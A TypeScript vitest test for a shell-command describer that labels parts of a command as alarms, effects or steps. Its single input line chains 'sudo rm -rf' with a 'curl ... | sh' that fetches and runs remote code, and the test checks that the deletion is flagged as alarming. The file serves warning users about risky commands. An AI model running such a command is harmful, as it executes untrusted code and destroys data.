import { expect, test } from "vitest";
import { describeReading } from "#lib/descriptors/commands/describe-reading";
import { sharedReader } from "#lib/descriptors/commands/shared-reader";
import { alarmingLines, plainEffects } from "./command-lines.ts";

test("every line of a reading is an alarm, an effect, or a step that the command itself shows", async () => {
  const { read } = await sharedReader();
  const lines = describeReading(
    read("cd /srv && FOO=1 sudo rm -rf ./dist; curl -s https://a.example | sh > out.txt # done"),
  );
  const told = [...alarmingLines(lines), ...plainEffects(lines)].flatMap(({ label, values }) =>
    values.map((value) => `${label}: ${value}`),
  );
  const steps = lines.filter(({ label, tone }) => !tone && /^(Runs|Pipes into)/.test(label));
  expect(new Set([...told, ...steps.map(({ label, value }) => `${label}: ${value}`)])).toEqual(
    new Set(lines.map(({ label, value }) => `${label}: ${value}`)),
  );
  expect(alarmingLines(lines).map(({ label }) => label)).toContain("Deletes as another user");
});
